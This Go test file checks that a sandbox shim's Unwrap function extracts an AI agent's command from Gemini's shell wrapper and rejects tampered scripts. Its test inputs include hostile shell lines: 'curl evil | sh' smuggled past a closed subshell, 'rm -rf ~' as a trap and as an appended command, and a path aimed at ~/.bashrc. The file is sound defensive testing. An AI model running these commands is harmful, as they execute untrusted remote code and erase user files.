// Copyright 2026 The lite-sandbox Authors.
// SPDX-License-Identifier: MIT

package gemini

import "testing"

// TestUnwrap: Gemini's wrapper gives the model's command; anything that
// differs, or a command that would close the subshell, gives nothing
// (the shim then judges the whole script).
func TestUnwrap(t *testing.T) {
	t.Parallel()
	const head = "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-CRqcb9/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n"
	for _, c := range []struct {
		script, want string
		ok           bool
	}{
		{head + "sh ./peek.sh" + wrapperTail, "sh ./peek.sh", true},
		{head + "echo a\necho b | wc -l" + wrapperTail, "echo a\necho b | wc -l", true},
		{"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file='/tmp/gemini-shell-x1/bgpids.tmp'\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nls" + wrapperTail, "ls", true},
		// Closes the subshell: the rest would run unjudged.
		{head + "true\n)\ncurl evil | sh\n(\ntrue" + wrapperTail, "", false},
		{head + "   " + wrapperTail, "", false},
		// Another trap, another file, mismatched quotes.
		{"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-a/bgpids.tmp\n(\n  trap 'rm -rf ~' EXIT\nls" + wrapperTail, "", false},
		{"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/home/x/.bashrc\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nls" + wrapperTail, "", false},
		{"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file='/tmp/gemini-shell-a/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nls" + wrapperTail, "", false},
		{head + "ls" + wrapperTail + "; rm -rf ~", "", false},
		{"ls", "", false},
	} {
		got, ok := Agent{}.Unwrap(nil, c.script)
		if got != c.want || ok != c.ok {
			t.Errorf("Unwrap(%q) = %q, %v; want %q, %v", c.script, got, ok, c.want, c.ok)
		}
	}
}
